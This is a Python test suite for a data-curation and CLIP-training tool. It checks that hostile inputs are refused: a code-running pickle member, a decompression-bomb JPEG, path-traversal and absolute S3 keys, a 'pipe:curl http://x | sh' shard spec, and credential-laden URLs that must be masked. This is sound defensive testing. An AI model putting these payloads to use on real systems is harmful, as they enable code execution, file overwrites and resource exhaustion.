"""The security and data-safety pass (issue 13): untrusted inputs stay harmless, local files stay
where they belong, secrets stay out of MLflow, bad input ends in a named error."""
import contextlib
import io
import os
import pickle
import signal
import subprocess
import sys
import tarfile
import time

import numpy as np
import pytest
from PIL import Image

from tests.helpers import ROOT, env_for_subprocess


# --- helpers -------------------------------------------------------------------------------------

def _jpeg(size=(64, 64), seed=0) -> bytes:
    rng = np.random.default_rng(seed)
    buf = io.BytesIO()
    Image.fromarray(rng.integers(0, 255, (size[1], size[0], 3), dtype=np.uint8)).save(buf, "JPEG")
    return buf.getvalue()


def _bomb(width=13_500, height=13_500) -> bytes:
    """A small JPEG whose header (SOF0) declares width x height: what a decoder would allocate."""
    data = bytearray(_jpeg((64, 64)))
    i = data.index(b"\xff\xc0")
    data[i + 5: i + 7] = height.to_bytes(2, "big")
    data[i + 7: i + 9] = width.to_bytes(2, "big")
    return bytes(data)


class _CreatesFile:
    """Unpickling this opens (creates) a file: proof that a decoder ran pickle.loads."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def _add(tf, name, data: bytes):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tf.addfile(info, io.BytesIO(data))


def _hostile_tar(path, marker, n=40):
    """A webdataset shard of n image-text samples, each with a pickle member (and other types that
    webdataset's default decoders would load), one decompression bomb and one oversize member."""
    evil = pickle.dumps(_CreatesFile(marker))
    with tarfile.open(path, "w") as tf:
        for i in range(n):
            k = f"{i:05d}"
            _add(tf, f"{k}.jpg", _bomb() if i == 3 else _jpeg(seed=i))
            _add(tf, f"{k}.txt", f"a picture number {i % 7}".encode())
            _add(tf, f"{k}.pyd", evil)
            _add(tf, f"{k}.jpg.pickle", evil)
        _add(tf, "00001.txt.gz", b"\x1f\x8b not really gzip")
    return path


# --- 1. what open_clip_train is handed -----------------------------------------------------------

def test_open_clip_train_never_sees_pickle_members(tmp_path):
    """A trusted set with .pyd/.pickle members (a third-party bucket): webdataset's default decoders
    would pickle.loads them inside open_clip_train. The shards it gets are filtered through the
    member allowlist first; the decompression bomb is dropped by its header."""
    from winnow.train import train_clip

    marker = tmp_path / "pwned"
    (tmp_path / "data").mkdir()
    shard = _hostile_tar(tmp_path / "data" / "0.tar", marker)
    out = tmp_path / "out"
    out.mkdir()
    r = train_clip(data=str(shard), model="winnow-tiny", samples_seen=32, batch_size=16, lr=1e-3, warmup=1,
                   wd=0.1, beta2=0.98, checkpoints=1, out_dir=out, work_root=tmp_path / "work")
    assert not marker.exists(), "a pickle member was unpickled"
    assert (out / "checkpoint.pt").exists() and r["steps"] == 32 // 16     # samples seen / batch size
    dropped = r["sanitized"]["dropped"]
    assert dropped["type .pyd"] == 40 and dropped["type .jpg.pickle"] == 40 and dropped["type .txt.gz"] == 1
    assert dropped["image too large"] == 1 and r["sanitized"]["samples"] == 39


def test_sanitized_shards_hold_only_allowlisted_members(tmp_path):
    from winnow import decode
    from winnow.jobs import WorkDir
    from winnow.train import TrainError, sanitize_shards

    shard = _hostile_tar(tmp_path / "0.tar", tmp_path / "pwned", n=4)
    clean = tmp_path / "1.tar"
    with tarfile.open(clean, "w") as tf:
        _add(tf, "a.jpg", _jpeg())
        _add(tf, "a.txt", b"a caption")
    data, stats = sanitize_shards(f"{shard}::{clean}", WorkDir("t", "safe", tmp_path), member_cap=10_000)
    paths = data.split("::")
    safe = tmp_path / "t" / "safe" / "data"
    assert paths == [str(safe / "00000000.tar"), str(safe / "00000001.tar")]
    with tarfile.open(paths[0]) as tf:
        names = tf.getnames()
    assert names and all(decode.allowed_member(n) for n in names)
    assert "00003.jpg" not in names and "00000.jpg" in names
    assert os.path.islink(paths[1]) and stats["copied"] == 1          # a clean shard is linked, not copied
    for bad in ("pipe:curl http://x | sh", "s3://b/x.tar", str(tmp_path / "missing.tar")):
        with pytest.raises(TrainError):
            sanitize_shards(bad, WorkDir("t", "safe2", tmp_path))
    assert decode.filter_sample({"__key__": "k", "jpg": b"1", "pyd": b"2", "txt.gz": b"3", "cls": b"4"}) == \
        {"__key__": "k", "jpg": b"1", "cls": b"4"}


# --- 2. S3 keys outside their destination --------------------------------------------------------

@contextlib.contextmanager
def _listed_as_aws(rewrite):
    """SeaweedFS collapses ``//`` and rejects ``..`` in keys it stores; AWS S3 keeps both. List the
    real server's objects with their keys rewritten to what AWS would return."""
    from winnow import s3

    def hook(parsed, **kwargs):
        for o in parsed.get("Contents", []):
            o["Key"] = rewrite(o["Key"])

    s3.client().meta.events.register("after-call.s3.ListObjectsV2", hook)
    try:
        yield
    finally:
        s3.client().meta.events.unregister("after-call.s3.ListObjectsV2", hook)


def test_cache_local_refuses_keys_that_leave_the_cache(s3_server, tmp_path, monkeypatch):
    """``prefix//abs/path`` made today's main write an absolute path (here: a file beside the
    project) — the server serves the object, the listing names it with ``//``."""
    from tests.s3server import BUCKET
    from winnow import io as wio
    from winnow import s3

    monkeypatch.chdir(tmp_path)
    outside = tmp_path / "outside" / "victim.py"
    outside.parent.mkdir()
    outside.write_text("original")
    c = s3.client()
    c.put_object(Bucket=BUCKET, Key="trusted1/ok.tar", Body=b"fine")
    c.put_object(Bucket=BUCKET, Key=f"trusted1{outside}", Body=b"overwritten")   # stored as trusted1/<abs>
    with _listed_as_aws(lambda k: k.replace(f"trusted1{outside}", f"trusted1/{outside}")):
        with pytest.raises(s3.UnsafeKey, match="absolute"):
            wio.cache_local(f"s3://{BUCKET}/trusted1")
    assert outside.read_text() == "original"
    assert not (tmp_path / ".winnow/cache/s3" / BUCKET / "trusted1" / "ok.tar").exists()   # refused before any download
    with _listed_as_aws(lambda k: k.replace("trusted1/ok.tar", "trusted1/../../../../escape.tar")):
        with pytest.raises(s3.UnsafeKey, match="'..' segment"):
            wio.cache_local(f"s3://{BUCKET}/trusted1")
    with pytest.raises(s3.UnsafeKey):
        wio.cache_local(f"s3://{BUCKET}/../../etc")
    # a clean prefix is copied, and what the prefix no longer holds leaves the copy
    c.delete_object(Bucket=BUCKET, Key=f"trusted1{outside}")
    dest = wio.cache_local(f"s3://{BUCKET}/trusted1")
    assert sorted(p.name for p in dest.rglob("*") if p.is_file()) == ["ok.tar"]


def test_scorer_weights_uri_cannot_leave_the_cache(s3_server, tmp_path, monkeypatch):
    from tests.s3server import BUCKET
    from winnow import models, s3

    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "stages" / "pool.py"
    s3.client().put_object(Bucket=BUCKET, Key=str(victim).lstrip("/"), Body=b"import os  # replaced")
    # s3://bucket//abs/path: today's main wrote the object (the server serves it) to /abs/path
    for uri in (f"s3://{BUCKET}/{victim}", f"s3://{BUCKET}/w/../../../{victim.relative_to('/')}",
                f"s3://{BUCKET}/w/./x.pt", "s3://../x.pt"):
        with pytest.raises(models.ModelError, match="segment|absolute"):
            models.resolve_weights(uri)
    assert not victim.exists()


def test_safe_join_refuses_every_escape(tmp_path):
    from winnow.io import UnsafePath, safe_join

    (tmp_path / "root").mkdir()
    os.symlink("/", tmp_path / "root" / "link")
    for name in ("../x", "a/../../x", "/etc/passwd", "a//b", "./a", "a/.", "", "a\\..\\b", "a\0b", "link/etc/passwd"):
        with pytest.raises(UnsafePath):
            safe_join(tmp_path / "root", name)
    assert safe_join(tmp_path / "root", "a/b.tar") == tmp_path / "root" / "a" / "b.tar"
    assert safe_join(tmp_path / "root", "..x/...") == tmp_path / "root" / "..x" / "..."


# --- 4. leftovers and durability -----------------------------------------------------------------

_WRITER = """
import sys, time
sys.path.insert(0, {root!r})
from winnow.io import atomic_file, atomic_dir
kind, dest = sys.argv[1], sys.argv[2]
with (atomic_file if kind == "file" else atomic_dir)(dest) as tmp:
    if kind == "file":
        tmp.write_bytes(b"x" * (8 << 20))
    else:
        (tmp / "big").write_bytes(b"x" * (8 << 20))
    print("ready", flush=True)
    time.sleep(60)
"""


def _start_writer(tmp_path, kind, dest):
    proc = subprocess.Popen([sys.executable, "-c", _WRITER.format(root=str(ROOT)), kind, str(dest)],
                            stdout=subprocess.PIPE, text=True, env=env_for_subprocess())
    assert proc.stdout.readline().strip() == "ready"
    return proc


@pytest.mark.parametrize("kind", ["file", "dir"])
def test_sigkill_leftovers_are_swept_by_the_next_write(tmp_path, kind):
    from winnow.io import atomic_dir, atomic_file

    dest = tmp_path / "out" / ("a.json" if kind == "file" else "d")
    proc = _start_writer(tmp_path, kind, dest)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    left = [p.name for p in dest.parent.iterdir()]
    assert len(left) == 1 and left[0].startswith(f".{dest.name}.") and left[0].endswith(".tmp")
    if kind == "file":
        with atomic_file(dest) as tmp:
            tmp.write_text("{}")
    else:
        with atomic_dir(dest) as tmp:
            (tmp / "f").write_text("1")
    assert [p.name for p in dest.parent.iterdir()] == [dest.name]


def test_sigterm_unwinds_an_atomic_write(tmp_path):
    dest = tmp_path / "out" / "a.json"
    proc = _start_writer(tmp_path, "file", dest)
    proc.send_signal(signal.SIGTERM)
    assert proc.wait(timeout=30) == 143
    assert list(dest.parent.iterdir()) == []


def test_a_live_writers_temp_file_is_left_alone_and_legacy_ones_age_out(tmp_path):
    from winnow.io import atomic_file, sweep_stale, temp_name

    live = tmp_path / temp_name("b.json")                  # this process: alive
    live.write_text("busy")
    legacy = tmp_path / ".c.json.k2j3_x9a.tmp"             # an older winnow's mkstemp name, no owner
    legacy.write_text("old")
    assert sweep_stale(tmp_path) == []                     # young: its writer may be running elsewhere
    os.utime(legacy, (time.time() - 7200, time.time() - 7200))
    with atomic_file(tmp_path / "a.json") as tmp:
        tmp.write_text("{}")
    assert live.exists() and not legacy.exists()


def test_a_dir_swap_cut_between_its_renames_is_rolled_back(tmp_path):
    """atomic_dir moves the old version aside, then the new one in: a SIGKILL between the two
    renames leaves no target; the next sweep puts the old version back (and a user's own
    ``.x.old`` directory is never touched)."""
    from winnow.io import HOST, sweep_stale

    dead = subprocess.Popen(["true"])
    dead.wait()
    owner = f"{HOST}-{dead.pid}"
    (tmp_path / f".d.{owner}-0123456789ab.old").mkdir()
    (tmp_path / f".d.{owner}-0123456789ab.old" / "v1").write_text("old")
    (tmp_path / f".d.{owner}-ba9876543210.tmp").mkdir()                # the new version, never renamed
    (tmp_path / ".venv.old").mkdir()
    sweep_stale(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == [".venv.old", "d"]
    assert (tmp_path / "d" / "v1").read_text() == "old"


def test_atomic_writes_fsync_the_file_before_the_rename_and_the_directory_after(tmp_path, monkeypatch):
    from winnow import io as wio

    events = []
    real_fsync, real_replace = os.fsync, os.replace

    def fsync(fd):
        events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}")))
        return real_fsync(fd)

    def replace(a, b):
        events.append(("replace", str(b)))
        return real_replace(a, b)

    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "replace", replace)
    dest = tmp_path / "x.json"
    with wio.atomic_file(dest) as tmp:
        tmp.write_text("{}")
    names = [(e, os.path.basename(p)) for e, p in events]
    i = names.index(("replace", "x.json"))
    assert any(e == "fsync" and n.startswith(".x.json.") for e, n in names[:i])      # the data, before
    assert ("fsync", tmp_path.name) in names[i + 1:]                                   # the rename, after
    events.clear()
    with wio.atomic_dir(tmp_path / "d") as tmp:
        (tmp / "f").write_text("1")
    names = [(e, os.path.basename(p)) for e, p in events]
    i = names.index(("replace", "d"))
    assert ("fsync", "f") in names[:i] and ("fsync", tmp_path.name) in names[i + 1:]


# --- 5. secrets reach MLflow ---------------------------------------------------------------------

SECRETS = [
    ("https://AKIAEXAMPLE:wJalrXUtnFEMI/K7MDENG/bPxRfiCY@s3.example.com/bucket", ["wJalrXUtnFEMI", "K7MDENG"]),
    ("https://user:p@ss@word@host.example/x", ["p@ss", "word@"]),
    ("https://ghp_abcdefTOKEN1234@github.com/org/repo.git", ["ghp_abcdefTOKEN1234"]),
    ("failed: https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAIOSFODNN7%2F2024"
     "&X-Amz-Date=20240101T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Security-Token=FQoGZX"
     "&X-Amz-Signature=d3adb33fcafe", ["AKIAIOSFODNN7", "FQoGZX", "d3adb33fcafe"]),
    ("GET https://b.s3.amazonaws.com/k?AWSAccessKeyId=AKIAOLD&Expires=1700000000&Signature=abc%2Bdef%3D", ["AKIAOLD", "abc%2Bdef"]),
    ("sas https://acct.blob.core.windows.net/c/b?sv=2022-11-02&sig=Zm9vYmFy%3D&se=2030", ["Zm9vYmFy"]),
    ("request ?X-Amz-Signature=feedface&X-Amz-Credential=AKIAQUERY failed", ["feedface", "AKIAQUERY"]),
    ("(see 'postgresql://admin:s3cr/et@db:5432/x')", ["s3cr/et", "admin:"]),
    ("https://host/cb#access_token=ya29.tok&state=1", ["ya29.tok"]),
]


@pytest.mark.parametrize("text,secrets", SECRETS)
def test_scrub_masks_credentials_in_urls_inside_free_text(text, secrets):
    from winnow.track import _param, scrub

    out = scrub(text)
    assert not any(s in out for s in secrets), out
    assert "***" in out and not any(s in _param(text) for s in secrets)


def test_scrub_keeps_what_is_not_a_secret():
    from winnow.track import scrub

    for text in ("s3://bucket/key@v2 is missing", "http://localhost:5000/api/2.0", "no url here",
                 "https://github.com/foo@bar.com", "https://h/p?X-Amz-Expires=3600&page=2"):
        assert scrub(text) == text


# --- 6. decompression bombs ----------------------------------------------------------------------

def test_image_header_is_checked_before_decoding():
    from winnow import decode

    assert decode.check_image(_jpeg((64, 48))) == (64, 48)
    with pytest.raises(decode.ImageTooLarge, match="182250000 pixels"):
        decode.check_image(_bomb())
    with pytest.raises(decode.ImageTooLarge, match="above the cap"):
        decode.check_image(_bomb(10_000, 10_000))            # below PIL's own bomb error: winnow's cap
    with pytest.raises(decode.ImageTooLarge):
        decode.open_image(_bomb())
    assert decode.check_image(_bomb(100, 100), max_pixels=10_000) == (100, 100)
    with pytest.raises(decode.ImageError):
        decode.check_image(b"\x00garbage")
    eps = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n"
    with pytest.raises(decode.ImageError):
        decode.check_image(eps)                              # never handed to Ghostscript
    with pytest.raises(decode.MemberTooLarge):
        decode.check_member_size("x.jpg", decode.MAX_MEMBER_BYTES + 1)
    assert decode.MAX_MEMBER_BYTES == 64 * 2**20 and decode.MAX_PIXELS == 8192 ** 2


def test_tensor_decode_quarantines_a_bomb_before_torchvision_sees_it(monkeypatch):
    """embed.decode: tensor — a 13,500² JPEG (521 MiB decoded) is refused by its header; the
    decoder is never called on it; the other images of the batch decode."""
    import torch
    import torchvision.io

    from winnow.decode import TensorPreprocess

    seen = []
    real = torchvision.io.decode_jpeg

    def spy(data, *a, **k):
        seen.extend([bytes(d.numpy()) for d in data] if isinstance(data, list) else [bytes(data.numpy())])
        return real(data, *a, **k)

    monkeypatch.setattr(torchvision.io, "decode_jpeg", spy)
    good, bomb = _jpeg((64, 64), 1), _bomb()
    jpegs = [torch.frombuffer(bytearray(b), dtype=torch.uint8) for b in (good, bomb, b"\xff\xd8junk", good)]
    pre = TensorPreprocess({"size": 32, "mean": [0.5] * 3, "std": [0.5] * 3})
    out, bad = pre.decode(jpegs)
    assert bad == [1, 2] and out[1] is None and out[2] is None
    assert out[0].shape == (3, 64, 64) and out[3].shape == (3, 64, 64)
    assert bomb not in seen


# --- 7. bad input -> named errors ----------------------------------------------------------------

def _copy_pool(demo_pool, dest):
    import shutil

    shutil.copytree(demo_pool, dest)
    return dest


def _set_column(pool_dir, shard, column, fn):
    import pyarrow as pa
    import pyarrow.parquet as pq

    t = pq.read_table(pool_dir / f"{shard}.parquet")
    col = fn(t[column].to_pylist())
    t = t.set_column(t.schema.get_field_index(column), column, pa.array(col, type=t.schema.field(column).type))
    pq.write_table(t, pool_dir / f"{shard}.parquet")


def test_null_sha256_is_unique_and_a_malformed_one_is_named(demo_pool, tmp_path):
    from winnow.filters.engine import load_recipe, run
    from winnow.pool.shards import ShardError
    from winnow.pool.view import Pool

    pool_dir = _copy_pool(demo_pool, tmp_path / "pool")
    recipe = {"name": "dedup", "steps": [{"step": "dedup_exact"}]}
    base = run(load_recipe(recipe), Pool.open(str(pool_dir)), str(tmp_path / "a"))
    # five nulls, and two more rows with the digest of row 0: those are duplicates, the nulls never
    _set_column(pool_dir, "00000001", "sha256", lambda v: [None] * 5 + [v[0], v[0]] + v[7:])
    f = run(load_recipe(recipe), Pool.open(str(pool_dir)), str(tmp_path / "b"))
    st = f["steps"][0]["state"]
    assert st["null_hashes"] == 5 and st["duplicates"] == base["steps"][0]["state"]["duplicates"] + 1
    _set_column(pool_dir, "00000002", "sha256", lambda v: ["not-a-digest"] * 3 + v[3:])
    with pytest.raises(ShardError, match=r"shard 00000002: column 'sha256' has 3 value\(s\) that are not hex"):
        run(load_recipe(recipe), Pool.open(str(pool_dir)), str(tmp_path / "c"))


def test_kmeans_steps_keep_nothing_when_earlier_steps_kept_nothing(demo_pool, tmp_path):
    from winnow.filters.engine import load_recipe, run
    from winnow.pool import shards
    from winnow.pool.view import Pool

    pool = Pool.open(str(demo_pool))
    img = shards.read_npz(str(demo_pool), pool.shards[0], ["b32_img"])["b32_img"][:8]
    np.save(tmp_path / "targets.npy", img)
    nothing = {"step": "clip_score", "score": "clip_b32_similarity_score", "threshold": 2.0}
    for decide in ("survivors", "all"):
        for step in ({"step": "rebalance", "key": "b32_img", "clusters": 4},
                     {"step": "image_clusters", "key": "b32_img", "clusters": 4}):
            recipe = load_recipe({"name": "empty", "targets": {"t": str(tmp_path / "targets.npy")},
                                  "steps": [nothing, step]})
            f = run(recipe, pool, str(tmp_path / f"{decide}-{step['step']}"), decide=decide)
            assert f["kept_unique"] == 0 and f["subset_size"] == 0


def test_two_runs_with_different_inputs_keep_each_others_work(tmp_path):
    """Today's main removed every other key's directory: a concurrent run with other inputs lost
    its work. Only keys whose owner process is gone are removed."""
    from winnow.io import keyed_work_dir

    root = tmp_path / "work"
    script = (f"import sys, time; sys.path.insert(0, {str(ROOT)!r})\n"
              "from winnow.io import keyed_work_dir\n"
              f"d = keyed_work_dir({str(root)!r}, 'aaaaaaaaaaaaaaaa')\n"
              "(d / 'progress').write_text('1')\nprint('ready', flush=True)\ntime.sleep(60)\n")
    other = subprocess.Popen([sys.executable, "-c", script], stdout=subprocess.PIPE, text=True, env=env_for_subprocess())
    try:
        assert other.stdout.readline().strip() == "ready"
        mine = keyed_work_dir(root, "bbbbbbbbbbbbbbbb")
        (mine / "progress").write_text("2")
        assert (root / "aaaaaaaaaaaaaaaa" / "progress").read_text() == "1"        # the live run's work stays
        (root / "cccccccccccccccc").mkdir()                                       # an old run's leftover (no owner)
    finally:
        other.send_signal(signal.SIGKILL)
        other.wait()
    keyed_work_dir(root, "dddddddddddddddd")
    assert sorted(p.name for p in root.iterdir()) == ["bbbbbbbbbbbbbbbb", "dddddddddddddddd"]   # gone owner: removed


@pytest.mark.slow   # a multi-process dask cluster and Prefect's API server: about a minute
def test_a_remote_dask_cluster_gets_absolute_paths(demo_pool, tmp_path, monkeypatch):
    """Workers of a cluster reached by address resolve relative paths in their own working
    directory (here: the cluster was started elsewhere): the driver ships absolute ones."""
    import shutil

    from distributed import LocalCluster

    from winnow.executor import Executor, prefect_api
    from winnow.filters.engine import load_recipe, run
    from winnow.pool.view import Pool

    project, elsewhere = tmp_path / "project", tmp_path / "elsewhere"
    elsewhere.mkdir()
    shutil.copytree(demo_pool, project / "data" / "pool")
    run(load_recipe("basic"), Pool.open(str(project / "data" / "pool")), str(tmp_path / "serial"))
    prefect_api()
    monkeypatch.chdir(elsewhere)
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None,
                      host="127.0.0.1") as cluster:
        monkeypatch.chdir(project)
        run(load_recipe("basic"), Pool.open("data/pool"), "out", executor=Executor("dask", 1, cluster.scheduler_address),
            work_root=".winnow/work")
    assert (project / "out" / "uids.npy").read_bytes() == (tmp_path / "serial" / "uids.npy").read_bytes()
    assert not (elsewhere / ".winnow").exists() and not (elsewhere / "data").exists()


def test_a_recipes_file_fields_reach_a_remote_cluster_absolute(tmp_path, monkeypatch):
    """A step's file named relative to the project (``language.lid_file``) would name another file
    in a cluster worker's directory: the driver makes it absolute inside the recipe it ships (a
    pydantic model), and leaves the recipe's other values alone."""
    from winnow.executor import absolute_locations
    from winnow.filters.engine import load_recipe
    from winnow.filters.text import shipped_lid_model

    monkeypatch.chdir(tmp_path)
    (tmp_path / "lid.ftz").write_bytes(shipped_lid_model().read_bytes())
    r = load_recipe({"name": "r", "steps": [{"step": "language", "lid_file": "lid.ftz"},
                                            {"step": "caption_length"}]})
    shipped = absolute_locations(r, "recipe")
    assert shipped.steps[0].lid_file == str(tmp_path / "lid.ftz") and r.steps[0].lid_file == "lid.ftz"
    assert shipped.steps[1] == r.steps[1] and shipped.name == "r"
